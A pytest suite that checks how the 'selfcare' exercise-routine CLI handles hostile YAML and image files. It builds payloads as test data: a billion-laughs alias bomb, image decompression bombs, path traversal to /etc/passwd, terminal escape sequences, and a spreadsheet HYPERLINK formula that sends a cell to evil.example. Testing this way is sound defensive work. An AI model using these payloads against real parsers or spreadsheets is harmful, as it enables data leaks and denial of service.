"""Hostile and broken routine files: a clear error at its line and exit 1, never a traceback,
a hang, a memory blow-up or control of the terminal.

The corpus lives in tests/hostile/; a `# <-` comment marks each line a problem must be reported
on (line 1 when there is none). Big files are generated here instead of being committed, and so
are the pictures the image-*.yaml routines name: they are laid beside a routine when it is placed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from typer.testing import Result

from conftest import MARK, REPO, SAMPLE_ROUTINE, table_rows
from picture_files import (
    cut_short,
    jpeg_bytes,
    jpeg_claiming,
    png_bytes,
    png_claiming,
    sparse_file,
    write,
)
from selfcare.routine.discovery import RoutineFile, check_file, resolve
from selfcare.routine.source import MAX_FILE_BYTES

if TYPE_CHECKING:
    from conftest import Cli, RoutineWriter

CORPUS = Path(__file__).parent / "hostile"
BUILT_IN = {"low-back", "low-back-quick", "pelvic-girdle-care"}  # the routines shipped
WIDE = {"COLUMNS": "250"}  # wide enough that no table cell wraps
START = ("--yes", "--plain", "--speed", "1000")
# Characters that would steer a terminal if printed raw: ESC, CSI (C1), bidi overrides and
# isolates. The program's own output is plain here (not a terminal), so any of them would
# have come from a routine file.
UNSAFE = re.compile("[\x1b\x9b\u202a-\u202e\u2066-\u2069]")


def alias_bomb() -> bytes:
    """The billion laughs: nine levels of nine aliases, 9**9 values once expanded, on one line."""
    levels = ["a: &a [" + ", ".join(["lol"] * 9) + "]"]
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    bomb = "{" + ", ".join(levels) + "}"
    return f"format: selfcare/1\nid: alias-bomb\ntitle: {bomb}  {MARK}\n".encode()


def over_size_limit() -> bytes:
    """Just over the size limit, and broken YAML at the end: refused before it is parsed."""
    head = b"format: selfcare/1\nid: over-size-limit\n"
    padding = b"# " + b"padding " * 12 + b"\n"
    body = head + padding * (MAX_FILE_BYTES // len(padding) + 1)
    return body + b"title: [unclosed\n"


def nested_lists(depth: int) -> Callable[[], bytes]:
    def make() -> bytes:
        lists = "[" * depth + "]" * depth
        return f"format: selfcare/1\nid: deep\ntitle: Deep\nphases: {lists}  {MARK}\n".encode()

    return make


def number_too_long() -> bytes:
    return (
        "format: selfcare/1\nid: number-too-long\ntitle: Long number\nphases:\n"
        "  - kind: stabilize\n    steps:\n      - id: hold\n        name: Hold\n"
        f"        hold: 10\n        reps: {'9' * 5000}  {MARK}\n"
    ).encode()


def raw_control_character(character: bytes) -> Callable[[], bytes]:
    def make() -> bytes:
        return b"format: selfcare/1\nid: control\ntitle: x%b[2J  %b\n" % (character, MARK.encode())

    return make


def many_segments(steps: int) -> bytes:
    """Doses each within limits that together plan about 8,000 segments per step."""
    lines = ["format: selfcare/1  " + MARK, "id: many-segments", "title: Many", "phases:"]
    lines += ["  - kind: stabilize", "    steps:"]
    lines += [
        f"      - {{id: s{n}, name: S, hold: 1, reps: 100, sets: 20, rest: 1, each_side: true}}"
        for n in range(steps)
    ]
    return ("\n".join(lines) + "\n").encode()


def photos(name: str, make: Callable[[Path], object]) -> Callable[[Path], None]:
    """Lays out photos/bridge-start.jpg (a good photo) and photos/NAME, which `make` creates."""

    def lay(folder: Path) -> None:
        write(folder / "photos" / "bridge-start.jpg", jpeg_bytes())
        make(folder / "photos" / name)

    return lay


@dataclass(frozen=True)
class Hostile:
    """One hostile file and the rule it must be reported under."""

    name: str  # the file name: in tests/hostile/, or the name `make` writes it under
    rule: str
    make: Callable[[], bytes] | None = None
    pictures: Callable[[Path], None] | None = None  # lays the routine's pictures in its folder

    def content(self) -> bytes:
        return self.make() if self.make else (CORPUS / self.name).read_bytes()

    def lines(self) -> list[int]:
        """The lines marked `# <-`, where the problem must be reported; else line 1."""
        raw = self.content().split(b"\n")
        marked = [number for number, line in enumerate(raw, 1) if MARK.encode() in line]
        return marked or [1]

    @property
    def id(self) -> str:
        return Path(self.name).stem


BROKEN = [
    Hostile("python-object-apply.yaml", "yaml-tag"),
    Hostile("python-name.yaml", "yaml-tag"),
    Hostile("unknown-tag.yaml", "yaml-tag"),
    Hostile("merge-key.yaml", "yaml-tag"),
    Hostile("alias-bomb.yaml", "too-complex", alias_bomb),
    Hostile("over-size-limit.yaml", "file-too-large", over_size_limit),
    Hostile("shift-jis.yaml", "not-utf8"),
    Hostile("empty.yaml", "empty-file"),
    Hostile("only-comment.yaml", "empty-file"),
    Hostile("top-level-list.yaml", "not-a-mapping"),
    Hostile("top-level-scalar.yaml", "not-a-mapping"),
    Hostile("nested-200-deep.yaml", "too-complex", nested_lists(200)),
    Hostile("nested-50000-deep.yaml", "too-complex", nested_lists(50_000)),
    Hostile("huge-reps.yaml", "bad-dose"),
    Hostile("number-too-long.yaml", "bad-number", number_too_long),
    Hostile("bad-holds.yaml", "bad-dose"),
    Hostile("bad-ranges.yaml", "bad-dose"),
    Hostile("duplicate-key.yaml", "duplicate-key"),
    Hostile("several-documents.yaml", "yaml-syntax"),
    Hostile("raw-escape.yaml", "yaml-syntax", raw_control_character(b"\x1b")),
    Hostile("raw-nul.yaml", "yaml-syntax", raw_control_character(b"\x00")),
    Hostile("bad-url-javascript.yaml", "bad-url"),
    Hostile("bad-url-escape.yaml", "bad-url"),
    Hostile("escape-in-key.yaml", "unknown-key"),
    Hostile("too-many-segments.yaml", "too-complex"),
    Hostile(
        "image-cut-short-png.yaml",
        "image-damaged",
        pictures=photos("cut-short.png", lambda path: write(path, cut_short(png_bytes()))),
    ),
    Hostile(
        "image-jpeg-bomb.yaml",
        "image-too-many-pixels",
        pictures=photos("bomb.jpg", lambda path: write(path, jpeg_claiming(65535, 65535))),
    ),
    Hostile(
        "image-png-bomb.yaml",
        "image-too-many-pixels",
        pictures=photos("bomb.png", lambda path: write(path, png_claiming(100_000, 100_000))),
    ),
    # 100 million pixels: Pillow warns rather than refuses; no warning may reach the terminal.
    Hostile(
        "image-png-100-megapixels.yaml",
        "image-too-many-pixels",
        pictures=photos("wide.png", lambda path: write(path, png_claiming(10_000, 10_000))),
    ),
    Hostile(
        "image-link-to-passwd.yaml",
        "image-outside-folder",
        pictures=photos("passwd.png", lambda path: path.symlink_to("/etc/passwd")),
    ),
    Hostile(
        "image-text-as-png.yaml",
        "image-not-png-or-jpeg",
        pictures=photos("notes.png", lambda path: write(path, b"not a picture\n")),
    ),
    Hostile(
        "image-3-mib.yaml",
        "image-too-large",
        pictures=photos("huge.jpg", lambda path: sparse_file(path, 3 * 1024 * 1024, jpeg_bytes())),
    ),
    Hostile("image-fifo.yaml", "image-not-regular", pictures=photos("pipe.jpg", os.mkfifo)),
]
PICTURE_CASES = [case for case in BROKEN if case.pictures]
PICTURES = [pytest.param(case, id=case.id) for case in PICTURE_CASES]
BROKEN_PARAMS = [pytest.param(case, id=case.id) for case in BROKEN]
VALID = ["utf8-bom.yaml", "crlf.yaml", "terminal-tricks.yaml", "csv-formulas.yaml"]


def assert_clean_exit(result: Result, code: int) -> None:
    """The exit code a user gets, with no traceback and nothing that steers the terminal."""
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert not UNSAFE.search(result.output), ascii(result.output)


def reported(output: str, path: Path, line: int, rule: str) -> bool:
    """Whether `output` has a `PATH:LINE:COL: error[RULE] message` line."""
    problem = re.compile(rf"{re.escape(str(path))}:{line}:\d+: error\[{re.escape(rule)}\] \S")
    return any(problem.match(text) for text in output.splitlines())


@pytest.fixture
def place(write_routine: RoutineWriter) -> Callable[[Hostile], Path]:
    """Writes a hostile case (and its pictures) into a folder of its own; returns its path."""

    def place_case(case: Hostile) -> Path:
        path = write_routine(case.content(), name=case.name)
        if case.pictures:
            case.pictures(path.parent)
        return path

    return place_case


def test_the_committed_corpus_and_the_case_list_agree() -> None:
    committed = {path.name for path in CORPUS.glob("*.yaml")}
    listed = {case.name for case in BROKEN if case.make is None} | set(VALID)

    assert committed == listed


@pytest.mark.parametrize("case", BROKEN_PARAMS)
def test_validate_reports_the_rule_on_its_line_and_exits_1(
    case: Hostile, cli: Cli, place: Callable[[Hostile], Path]
) -> None:
    path = place(case)

    result = cli("validate", path)

    assert_clean_exit(result, 1)
    for line in case.lines():
        assert reported(result.stdout, path, line, case.rule), result.stdout


@pytest.mark.parametrize("case", BROKEN_PARAMS)
def test_validate_json_gives_the_rule_and_line_of_each_problem(
    case: Hostile, cli: Cli, place: Callable[[Hostile], Path]
) -> None:
    result = cli("validate", "--json", place(case))

    assert_clean_exit(result, 1)
    problems = {(d["rule"], d["line"], d["severity"]) for d in json.loads(result.stdout)}
    assert {(case.rule, line, "error") for line in case.lines()} <= problems


@pytest.mark.parametrize("case", BROKEN_PARAMS)
def test_show_refuses_the_file_with_its_problems_and_exits_1(
    case: Hostile, cli: Cli, place: Callable[[Hostile], Path]
) -> None:
    path = place(case)

    result = cli("show", path)

    assert_clean_exit(result, 1)
    assert result.stdout == ""
    assert f"Error: {path} is not a valid routine" in result.stderr
    for line in case.lines():
        assert reported(result.stderr, path, line, case.rule), result.stderr


@pytest.mark.parametrize("case", BROKEN_PARAMS)
def test_start_refuses_the_file_before_any_session_and_exits_1(
    case: Hostile, cli: Cli, place: Callable[[Hostile], Path]
) -> None:
    path = place(case)

    result = cli("start", path, *START)

    assert_clean_exit(result, 1)
    assert f"Error: {path} is not a valid routine" in result.stderr
    assert "Session complete" not in result.output


@pytest.mark.parametrize("case", BROKEN_PARAMS)
def test_list_shows_the_file_as_invalid(
    case: Hostile, cli: Cli, place: Callable[[Hostile], Path]
) -> None:
    folder = place(case).parent

    table = cli("list", "--routines-dir", folder, env=WIDE)
    rows = json.loads(cli("list", "--json", "--routines-dir", folder).stdout)

    assert_clean_exit(table, 0)
    assert (case.id, False) in {(row["id"], row["valid"]) for row in rows}
    assert table_rows(table.stdout)[case.id][0].startswith("invalid: run `selfcare validate")


def test_a_python_tag_is_never_executed_by_any_command(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # the tag would `touch hostile-witness` here
    folder = tmp_path / "corpus"
    folder.mkdir()
    path = Path(shutil.copy(CORPUS / "python-object-apply.yaml", folder))

    results = [
        cli("validate", path),
        cli("show", path),
        cli("start", path, *START),
        cli("list", "--routines-dir", folder),
    ]

    assert [result.exit_code for result in results] == [1, 1, 1, 0]
    assert not (tmp_path / "hostile-witness").exists()


def test_an_unknown_tag_is_named_in_the_message(cli: Cli) -> None:
    result = cli("validate", CORPUS / "unknown-tag.yaml")

    assert "the YAML tag !foo is not allowed" in result.stdout


def test_a_shift_jis_file_is_told_to_be_saved_as_utf8(cli: Cli) -> None:
    result = cli("validate", CORPUS / "shift-jis.yaml")

    assert "save it as UTF-8" in result.stdout


def test_several_documents_in_one_file_say_so(cli: Cli) -> None:
    result = cli("validate", CORPUS / "several-documents.yaml")

    message = "a second document starts here; a routine file holds one: remove this '---' line"
    assert message in result.stdout


def check_measured(path: Path) -> tuple[RoutineFile, float, int]:
    """`path` checked, the seconds that took and the most memory it held at once."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        checked = check_file(path)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return checked, elapsed, peak


def test_the_alias_bomb_is_refused_quickly_in_bounded_memory(
    write_routine: RoutineWriter,
) -> None:
    path = write_routine(alias_bomb(), name="alias-bomb.yaml")

    checked, elapsed, peak = check_measured(path)

    assert [d.rule for d in checked.diagnostics] == ["too-complex"]
    assert "alias bomb" in checked.diagnostics[0].message
    assert elapsed < 2.0
    assert peak < 50 * 1024 * 1024


def test_a_routine_that_would_plan_millions_of_segments_is_refused_quickly(
    write_routine: RoutineWriter,
) -> None:
    path = write_routine(many_segments(500), name="many-segments.yaml")  # 4 million segments

    checked, elapsed, peak = check_measured(path)

    assert [d.rule for d in checked.diagnostics] == ["too-complex"]
    assert "more than 20000 timed parts" in checked.diagnostics[0].message
    assert elapsed < 2.0
    assert peak < 50 * 1024 * 1024


def test_a_file_over_the_size_limit_is_refused_before_parsing(
    cli: Cli, write_routine: RoutineWriter
) -> None:
    path = write_routine(over_size_limit(), name="over-size-limit.yaml")

    result = cli("validate", path)

    said = f"larger than 1 MiB; routine files may be at most {MAX_FILE_BYTES:,} bytes"
    assert said in result.stdout
    assert "yaml-syntax" not in result.stdout  # the broken YAML at its end was never read
    assert result.stdout.splitlines()[-1] == "1 file(s) checked: 1 error(s), 0 warning(s)"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are a POSIX thing")
def test_validate_refuses_a_named_pipe_instead_of_waiting_for_a_writer(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.yaml"
    os.mkfifo(pipe)

    finished = run_selfcare("validate", str(pipe))

    assert finished.returncode == 1
    assert f"{pipe}:1:1: error[unreadable] not a regular file" in finished.stdout


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_validate_refuses_a_device_that_never_ends() -> None:
    finished = run_selfcare("validate", "/dev/zero")

    assert finished.returncode == 1
    assert "/dev/zero:1:1: error[unreadable] not a regular file" in finished.stdout


def run_selfcare(*args: str) -> subprocess.CompletedProcess[str]:
    """`selfcare ARGS` in its own process; a hang fails the test instead of stalling the run."""
    return subprocess.run(
        [sys.executable, "-m", "selfcare", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=30,
        cwd=REPO,
    )


def test_a_real_process_reports_every_broken_corpus_file_without_a_traceback() -> None:
    validated = run_selfcare("validate", str(CORPUS))
    listed = run_selfcare("list", "--json", "--routines-dir", str(CORPUS))

    assert validated.returncode == 1
    assert "Traceback" not in validated.stderr + listed.stderr
    # The image-*.yaml routines have no pictures here (they are made when a case is placed), so
    # they are reported as image-missing; their own rules are checked in a real process below.
    committed = [case for case in BROKEN if case.make is None]
    for case in committed:
        assert f"{CORPUS / case.name}:" in validated.stdout, case.name
    assert f"{len(committed) + len(VALID)} file(s) checked" in validated.stdout
    validity = {row["id"]: row["valid"] for row in json.loads(listed.stdout)}
    assert validity == {
        **{case.id: False for case in committed},
        **{Path(name).stem: True for name in VALID},
        "low-back": True,
        "low-back-quick": True,
        "pelvic-girdle-care": True,
    }


# --- Hostile pictures --------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ja"])
@pytest.mark.parametrize("case", PICTURES)
def test_a_hostile_picture_is_one_error_line_at_its_value_and_nothing_else(
    case: Hostile, lang: str, cli: Cli, place: Callable[[Hostile], Path]
) -> None:
    path = place(case)

    result = cli("validate", "--lang", lang, path)

    assert_clean_exit(result, 1)
    assert result.stderr == ""
    problem, summary = result.stdout.splitlines()
    assert reported(problem, path, case.lines()[0], case.rule), problem
    if lang == "ja":
        assert re.search("[\u3040-\u30ff]", problem), problem
        assert summary == "1 ファイルを検査: 誤り 1 件、警告 0 件"
    else:
        assert summary == "1 file(s) checked: 1 error(s), 0 warning(s)"


def test_a_real_process_reports_each_hostile_picture_without_a_warning_or_a_traceback(
    tmp_path: Path,
) -> None:
    placed: list[tuple[Hostile, Path]] = []
    for case in PICTURE_CASES:
        folder = tmp_path / "corpus" / case.id
        path = write(folder / case.name, case.content())
        assert case.pictures is not None
        case.pictures(folder)
        placed.append((case, path))

    finished = run_selfcare("validate", str(tmp_path / "corpus"))

    assert finished.returncode == 1
    assert finished.stderr == ""  # Pillow's bomb warning is never printed, nor a traceback
    lines = finished.stdout.splitlines()
    for case, path in placed:
        (line,) = [line for line in lines if line.startswith(f"{path}:")]
        assert reported(line, path, case.lines()[0], case.rule), line
    assert lines[-1] == f"{len(placed)} file(s) checked: {len(placed)} error(s), 0 warning(s)"


@pytest.mark.parametrize(
    "name", ["image-jpeg-bomb.yaml", "image-png-bomb.yaml", "image-png-100-megapixels.yaml"]
)
def test_an_image_bomb_is_refused_from_its_header_without_decoding_a_pixel(
    name: str, place: Callable[[Hostile], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from PIL import ImageFile

    path = place(next(case for case in PICTURE_CASES if case.name == name))
    decoded: list[tuple[int, int]] = []
    load = ImageFile.ImageFile.load

    def spy(picture: ImageFile.ImageFile) -> object:
        decoded.append(picture.size)
        return load(picture)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    check_file(path)  # Pillow and its plugins are imported now, not while memory is measured

    checked, _, peak = check_measured(path)

    assert [d.rule for d in checked.diagnostics] == ["image-too-many-pixels"]
    # tracemalloc sees Python's memory, not Pillow's pixel buffers: the spy shows there were none.
    assert decoded == []
    # The routine file's own read takes 1 MiB; decoded, 65535 x 65535 pixels would take 12 GiB.
    assert peak < 3 * 1024 * 1024


# --- Valid files that look unusual ------------------------------------------------------


@pytest.mark.parametrize("name", ["utf8-bom.yaml", "crlf.yaml"])
def test_a_byte_order_mark_or_windows_line_endings_are_accepted_by_every_command(
    name: str, cli: Cli, write_routine: RoutineWriter
) -> None:
    path = write_routine((CORPUS / name).read_bytes(), name=name)

    validated = cli("validate", path)
    shown = cli("show", path)
    started = cli("start", path, *START)
    rows = json.loads(cli("list", "--json", "--routines-dir", path.parent).stdout)

    assert_clean_exit(validated, 0)
    assert validated.stdout == "1 file(s) checked: 0 error(s), 0 warning(s)\n"
    assert_clean_exit(shown, 0)
    assert "Back care" in shown.stdout
    assert_clean_exit(started, 0)
    assert "Session complete" in started.stdout
    assert (path.stem, True) in {(row["id"], row["valid"]) for row in rows}


MARKUP = [
    "[bold red]x[/] title",
    "[link=file:///etc/passwd]y[/link] summary",
    "[bold]Dr[/bold]",
    "[italic]text[/italic]",
    "[bold red]x[/] step",
    "[link=file:///etc/passwd]y[/link]",
    "[bold]still tight?[/bold]",
]


def test_show_prints_markup_in_routine_text_literally_and_no_control_characters(
    cli: Cli,
) -> None:
    result = cli("show", CORPUS / "terminal-tricks.yaml", env=WIDE)

    assert_clean_exit(result, 0)
    for text in MARKUP:
        assert text in result.stdout
    assert "\ufffd[2J" in result.stdout  # the escape is replaced, the rest is shown


def test_a_session_prints_markup_in_routine_text_literally_and_no_control_characters(
    cli: Cli,
) -> None:
    result = cli("start", CORPUS / "terminal-tricks.yaml", *START, env=WIDE)

    assert_clean_exit(result, 0)
    assert "[bold red]x[/] title" in result.stdout
    assert "[bold red]x[/] step \ufffd[2J: Hold" in result.stdout
    assert "Session complete" in result.stdout


def test_list_prints_markup_in_a_title_literally(cli: Cli) -> None:
    result = cli("list", "--routines-dir", CORPUS, env=WIDE)

    assert_clean_exit(result, 0)
    assert table_rows(result.stdout)["terminal-tricks"][0] == "[bold red]x[/] title \ufffd[2J"


def test_on_a_colour_terminal_only_the_video_becomes_a_link(cli: Cli) -> None:
    result = cli("show", CORPUS / "terminal-tricks.yaml", env={**WIDE, "FORCE_COLOR": "1"})

    assert result.exit_code == 0, result.output
    assert "\x1b[" in result.stdout  # Rich styles the text: this really is terminal output
    links = set(re.findall(r"\x1b]8;[^;]*;([^\x1b\x07]*)", result.stdout)) - {""}
    assert links == {"https://example.com/bridge"}
    assert "\x1b[2J" not in result.stdout
    assert not re.search("[\x9b\u202a-\u202e\u2066-\u2069]", result.stdout)


# --- Ids on the command line are never paths ---------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("show", "../../etc/passwd"),
        ("show", "/etc/passwd"),
        ("start", "../x", *START),
        ("start", "../../etc/passwd", *START),
    ],
    ids=["show-relative", "show-absolute", "start-relative", "start-deep"],
)
def test_an_id_that_looks_like_a_path_finds_no_routine(args: tuple[str, ...], cli: Cli) -> None:
    result = cli(*args)

    assert_clean_exit(result, 1)
    assert f"no routine called '{args[1]}'" in result.stderr


@pytest.mark.parametrize("command", [("show",), ("start", *START)], ids=["show", "start"])
def test_an_id_cannot_climb_out_of_the_routine_folder_to_a_file_beside_it(
    command: tuple[str, ...], cli: Cli, selfcare_home: Path
) -> None:
    (selfcare_home / "routines").mkdir(parents=True)
    beside = selfcare_home / "escape.yaml"  # user routines live in SELFCARE_HOME/routines
    beside.write_text(SAMPLE_ROUTINE.replace("id: sample", "id: escape"), "utf-8")

    result = cli(command[0], "../escape", *command[1:])

    assert_clean_exit(result, 1)
    assert "no routine called '../escape'" in result.stderr


def test_a_missing_yaml_path_is_reported_as_missing(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)

    result = cli("show", "missing.yaml")

    assert_clean_exit(result, 1)
    assert "no routine file at missing.yaml" in result.stderr


def test_an_existing_file_without_a_yaml_suffix_is_taken_as_an_id_and_not_read(
    cli: Cli, tmp_path: Path
) -> None:
    path = tmp_path / "routine.txt"
    path.write_text(SAMPLE_ROUTINE, "utf-8")

    result = cli("show", path)

    assert_clean_exit(result, 1)
    assert f"no routine called '{path}'" in result.stderr


# --- A folder of many files, some broken -------------------------------------------------

BROKEN_IN_FOLDER = ["python-name.yaml", "shift-jis.yaml", "duplicate-key.yaml"]


@pytest.fixture
def mixed_folder(write_routine: RoutineWriter) -> Path:
    """Five good routines and three broken ones in one folder."""
    for number in range(1, 6):
        write_routine(
            SAMPLE_ROUTINE.replace("id: sample", f"id: good-{number}"), f"good-{number}.yaml"
        )
    for name in BROKEN_IN_FOLDER:
        path = write_routine((CORPUS / name).read_bytes(), name)
    return path.parent


def test_list_shows_the_good_routines_and_marks_the_broken_ones(
    cli: Cli, mixed_folder: Path
) -> None:
    table = cli("list", "--routines-dir", mixed_folder, env=WIDE)

    assert_clean_exit(table, 0)
    titles = {routine_id: cells[0] for routine_id, cells in table_rows(table.stdout).items()}
    for number in range(1, 6):
        assert titles[f"good-{number}"] == "Sample routine"
    for name in BROKEN_IN_FOLDER:
        assert titles[Path(name).stem].startswith("invalid: run `selfcare validate")


def test_list_json_marks_exactly_the_broken_routines_invalid(cli: Cli, mixed_folder: Path) -> None:
    result = cli("list", "--json", "--routines-dir", mixed_folder)

    assert_clean_exit(result, 0)
    rows = [row for row in json.loads(result.stdout) if row["source"] == "folder"]
    assert sorted((row["id"], row["valid"]) for row in rows) == sorted(
        [(f"good-{number}", True) for number in range(1, 6)]
        + [(Path(name).stem, False) for name in BROKEN_IN_FOLDER]
    )


def test_validate_on_the_folder_reports_every_broken_file_and_no_good_one(
    cli: Cli, mixed_folder: Path
) -> None:
    result = cli("validate", mixed_folder)

    assert_clean_exit(result, 1)
    failing = {Path(line.split(":")[0]).name for line in result.stdout.splitlines()[:-1]}
    assert failing == set(BROKEN_IN_FOLDER)
    assert result.stdout.splitlines()[-1].startswith("8 file(s) checked: 3 error(s)")


def test_a_corrupted_list_index_is_rebuilt_instead_of_crashing(
    cli: Cli, selfcare_home: Path, mixed_folder: Path
) -> None:
    cli("list", "--routines-dir", mixed_folder)
    index = selfcare_home / "cache" / "routine-index.json"
    data = json.loads(index.read_text("utf-8"))
    for number, (key, entry) in enumerate(data["entries"].items()):
        data["entries"][key] = 5 if number % 2 else {**entry, "phases": 3}
    index.write_text(json.dumps(data), "utf-8")

    table = cli("list", "--routines-dir", mixed_folder)
    result = cli("list", "--json", "--routines-dir", mixed_folder)

    assert_clean_exit(table, 0)
    assert_clean_exit(result, 0)
    valid = {row["id"] for row in json.loads(result.stdout) if row["valid"]}
    assert valid == {f"good-{number}" for number in range(1, 6)} | BUILT_IN


@pytest.mark.parametrize(
    "damage",
    [
        {"title": {"en": 5}},
        {"title": []},
        {"total_seconds": float("nan")},
        {"total_seconds": float("inf")},
        {"total_seconds": True},
        {"phases": ["stretch"]},
    ],
    ids=["title-not-text", "title-a-list", "nan", "infinity", "boolean", "unknown-phase"],
)
def test_a_damaged_list_index_entry_is_read_again_from_its_file(
    cli: Cli, selfcare_home: Path, damage: dict[str, object]
) -> None:
    cli("list")
    index = selfcare_home / "cache" / "routine-index.json"
    data = json.loads(index.read_text("utf-8"))
    for key, entry in data["entries"].items():
        data["entries"][key] = {**entry, **damage}
    index.write_text(json.dumps(data), "utf-8")  # json writes NaN and Infinity as Python reads them

    table = cli("list")
    result = cli("list", "--json")

    assert_clean_exit(table, 0)
    assert_clean_exit(result, 0)
    rows = json.loads(result.stdout, parse_constant=lambda name: pytest.fail(f"not JSON: {name}"))
    assert {row["id"]: row["total_seconds"] for row in rows} == {
        name: resolve(name).total_seconds for name in BUILT_IN
    }


def test_a_routine_of_spreadsheet_formulas_runs_and_exports_as_text_only(cli: Cli) -> None:
    path = CORPUS / "csv-formulas.yaml"
    assert cli("validate", "--strict", path).exit_code == 0
    run = cli("start", path, "--yes", "--no-sound", "--speed", "1000")  # listed with --all
    assert run.exit_code == 0, run.output

    exported = cli("history", "--csv", "--all")

    assert_clean_exit(exported, 0)
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    cells = [cell for row in rows for cell in row]
    assert "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click for your results")' in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
